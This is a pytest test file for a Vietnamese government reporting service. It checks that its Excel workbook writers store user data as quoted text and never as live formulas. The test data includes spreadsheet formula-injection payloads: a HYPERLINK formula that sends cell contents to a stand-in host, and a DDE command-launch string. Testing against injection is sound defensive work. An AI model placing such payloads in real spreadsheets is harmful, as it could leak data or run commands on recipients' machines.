"""Every workbook writer keeps data as text: the streamed sheet, Biểu 06, the complaints report.

Each workbook is read back with openpyxl, as a spreadsheet program would open it: a cell
written from data must be a text cell ('s') holding the original text, never a formula ('f').
"""

from __future__ import annotations

import datetime as dt
import io
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from openpyxl import Workbook, load_workbook

from service.complaints.report import BodyCounts, ComplaintReport
from service.complaints.workbook import complaints_workbook
from service.reports.cells import (
    CellXml,
    put,
    text_xml,
    value_xml,
    workbook_bytes,
    written_as,
)
from service.reports.form06 import COLUMNS, Form06, Form06Row
from service.reports.periods import parse_period
from service.reports.sheets import Column, Sheet, xlsx_chunks
from service.reports.xlsx import form06_workbook

ZONE = ZoneInfo("Asia/Ho_Chi_Minh")
# Text a spreadsheet would run or take for a formula: each way a cell's formula can start.
RISKY = (
    '=HYPERLINK("http://ke-xau.example/?"&A1,"Bấm vào đây")',
    "=1+1",
    "+84 912 345 678",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
)
# Text that needs care but is no formula: kept exactly as it was.
ODD = ("a & b <c>", " lề trái", "lề phải ", "hai\ndòng", "về\rđầu", "tab\tgiữa", "Nguyễn Văn A")


def as_openpyxl_keeps(text: str) -> str:
    """What an openpyxl-written cell reads back as: openpyxl writes a carriage return as it is,
    and XML readers turn it into a line feed (the streamed sheet writes a reference instead)."""
    return text.replace("\r", "\n")


def read(data: bytes) -> Any:
    """The first sheet of an XLSX, as openpyxl opens it."""
    return load_workbook(io.BytesIO(data)).active


def streamed(columns: list[Column], rows: list[list[Any]]) -> Any:
    """A streamed workbook of these rows under one title line, read back."""
    sheet = Sheet("Thử", ["Tiêu đề"], columns)
    return read(b"".join(xlsx_chunks(sheet, rows)))


def formulas(sheet: Any) -> list[str]:
    """Every cell of a sheet that holds a formula."""
    return [cell.coordinate for row in sheet.iter_rows() for cell in row
            if cell.data_type == "f"]


@pytest.mark.parametrize("kind", ["text", "number", "instant", "day"])
def test_the_streamed_sheet_writes_formula_like_data_as_quoted_text(kind: str) -> None:
    # Twice each: the second time from the column's remembered cells.
    rows = [[text, text] for text in RISKY * 2]
    sheet = streamed([Column("A", kind=kind), Column("B")], rows)
    assert formulas(sheet) == []
    for number, text in enumerate(RISKY * 2, start=3):
        for cell in sheet[number]:
            assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True), (
                cell.coordinate, text)


def test_the_streamed_sheet_keeps_odd_text_exactly_and_unquoted() -> None:
    sheet = streamed([Column("A")], [[text] for text in ODD * 2])
    got = [(row[0].value, row[0].data_type, row[0].quotePrefix)
           for row in sheet.iter_rows(min_row=3)]
    assert got == [(text, "s", False) for text in ODD * 2]


def test_the_streamed_sheet_writes_numbers_and_dates_the_code_chose() -> None:
    instant = dt.datetime(2026, 3, 10, 9, 30, tzinfo=ZONE)
    columns = [Column("n", kind="number"), Column("t", kind="instant"), Column("d", kind="day"),
               Column("x")]
    sheet = streamed(columns, [[3, instant, dt.date(2026, 3, 13), 7],
                               [True, "ngày 10", None, ""], [2.5, None, "", None]])
    assert [c.value for c in sheet[3]] == [3, dt.datetime(2026, 3, 10, 9, 30),
                                           dt.datetime(2026, 3, 13), "7"]
    assert [c.data_type for c in sheet[3]] == ["n", "d", "d", "s"]  # 7 in a text column: text
    assert sheet["C3"].number_format == "dd/mm/yyyy"
    assert sheet["B3"].number_format == "dd/mm/yyyy hh:mm"
    assert [(c.value, c.data_type) for c in sheet[4][:2]] == [("True", "s"), ("ngày 10", "s")]
    assert [c.value for c in sheet[4][2:]] == [None, None]
    assert sheet["A5"].value == 2.5


def test_text_is_cleaned_of_what_xml_cannot_carry_and_cut_at_excel_s_limit() -> None:
    sheet = streamed([Column("A")], [["a\x00b\x1fc\ud800d"], ["x" * 40_000]])
    assert sheet["A3"].value == "abcd"
    assert len(sheet["A4"].value) == 32_767


def test_a_row_of_the_wrong_width_is_refused_with_its_number() -> None:
    with pytest.raises(ValueError, match="row 3 has 1 values for 2 columns"):
        list(xlsx_chunks(Sheet("Thử", ["Tiêu đề"], [Column("A"), Column("B")]), [["x"]]))


def test_remembered_cells_are_what_the_rule_writes() -> None:
    values: list[Any] = [*RISKY, *ODD, "", None, 1, True, 1.0, dt.date(2026, 1, 2),
                         dt.datetime(2026, 1, 2, 3, 4, tzinfo=ZONE), float("nan")]
    for kind in ("text", "number", "instant", "day"):
        cells = CellXml.of(kind)
        for _ in range(2):
            assert [cells[value] for value in values] == [value_xml(v, kind) for v in values]
    # The fast path for plain text agrees with the careful one.
    for text in (*RISKY, *ODD, "Hộ tịch"):
        assert value_xml(text, "text") == text_xml(text)
    assert written_as(True, "number") == "text" and written_as(float("inf"), "number") == "text"


def test_put_writes_data_into_openpyxl_cells_as_text() -> None:
    book = Workbook()
    sheet = book.active
    for number, text in enumerate(RISKY, start=1):
        put(sheet.cell(number, 1), text)
        put(sheet.cell(number, 2), text, "number")
    put(sheet.cell(1, 3), 12, "number")
    sheet = read(workbook_bytes(book))
    assert formulas(sheet) == []
    for number, text in enumerate(RISKY, start=1):
        assert [(c.value, c.data_type, c.quotePrefix) for c in sheet[number][:2]] == [
            (as_openpyxl_keeps(text), "s", True)] * 2
    assert (sheet["C1"].value, sheet["C1"].data_type) == (12, "n")


def test_a_workbook_with_a_formula_is_refused() -> None:
    book = Workbook()
    book.active["B2"] = "=1+1"  # openpyxl's own assignment makes it a formula
    with pytest.raises(ValueError, match=r"Sheet!B2 holds a formula"):
        workbook_bytes(book)


def test_form06_writes_a_formula_like_domain_as_text() -> None:
    period = parse_period("2026-Q1")
    at = dt.datetime(2026, 4, 1, 8, tzinfo=ZONE)
    rows = [Form06Row(n, text, dict.fromkeys(COLUMNS, n)) for n, text in enumerate(RISKY, 1)]
    total = Form06Row(None, "Tổng số", dict.fromkeys(COLUMNS, 36))
    report = Form06("000.32.26.H26", "=UBND xã", period, rows, total, at, at,
                    "Asia/Ho_Chi_Minh")
    sheet = read(workbook_bytes(form06_workbook(report, "=Văn phòng UBND huyện")))
    assert formulas(sheet) == []
    for number, text in enumerate(RISKY):
        cell = sheet.cell(11 + number, 2)
        assert (cell.value, cell.data_type, cell.quotePrefix) == (as_openpyxl_keeps(text), "s",
                                                                  True)
        assert (sheet.cell(11 + number, 1).value, sheet.cell(11 + number, 3).value) == (
            number + 1, number + 1)
    assert sheet["K2"].value == "Đơn vị nhận báo cáo: =Văn phòng UBND huyện"


def test_the_complaints_report_writes_a_formula_like_body_as_text() -> None:
    report = ComplaintReport("UBND xã", parse_period("2026-Q1"),
                             dt.datetime(2026, 4, 1, 1, tzinfo=dt.UTC), 15,
                             [BodyCounts(text, received=2, on_time=1) for text in RISKY])
    sheet = read(workbook_bytes(complaints_workbook(report, "Asia/Ho_Chi_Minh")))
    assert formulas(sheet) == []
    for number, text in enumerate(RISKY, start=7):
        cell = sheet.cell(number, 2)
        assert (cell.value, cell.data_type, cell.quotePrefix) == (as_openpyxl_keeps(text), "s",
                                                                  True)
        assert [c.value for c in sheet[number][2:4]] == [2, 1]
        assert sheet.cell(number, 8).value == 1.0
